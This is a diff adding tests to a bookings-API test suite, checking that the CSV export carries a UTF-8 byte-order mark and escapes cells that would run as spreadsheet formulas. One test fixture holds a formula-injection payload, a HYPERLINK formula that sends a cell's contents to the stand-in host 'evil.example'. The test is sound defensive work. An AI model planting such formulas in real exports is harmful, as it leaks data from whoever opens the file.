@@ -99,6 +99,8 @@ describe('admin bookings API', () => {
     expect(lines[0]).toMatch(/^"Reference","Status","Event"/);
     expect(lines[1]).toContain('"Anu ""Chechi"" Thomas"');
     expect(lines[1]).toContain('"1 × Combo Pack"');
+    // Excel reads the file as UTF-8 only with the byte-order mark first.
+    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   });
 
   it('sums the overview: counts by status, revenue without cancelled bookings, recent lists, sales per event', async () => {
@@ -131,6 +133,21 @@ describe('admin bookings API', () => {
     while (!received.includes('event: bookings')) received += new TextDecoder().decode((await reader.read()).value);
     expect(received).toContain(`data: {"reason":"status","id":${first.id}}`);
     controller.abort();
+  });
+
+  it('never writes a cell a spreadsheet would run as a formula', async () => {
+    const formulaEvent = await createTestEvent(t.database.db, { maxOrders: 2, title: 'Formula sale' });
+    const order = await createOrder(t.app, {
+      ...orderBody(formulaEvent, { combo: 1 }, 100000),
+      name: '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
+      address: '@SUM(1+1) Baker Junction',
+    });
+    await postBooking(t.app, paidProof(order.json().orderId));
+    const body = (await get(`/api/bookings/export?eventId=${formulaEvent}`)).body;
+    const row = body.trim().split('\r\n')[1]!;
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Refund"")"`);
+    expect(row).toContain(`"'@SUM(1+1) Baker Junction"`);
+    expect(row).not.toMatch(/(^|,)"[=+@-]/);
   });
 });
 
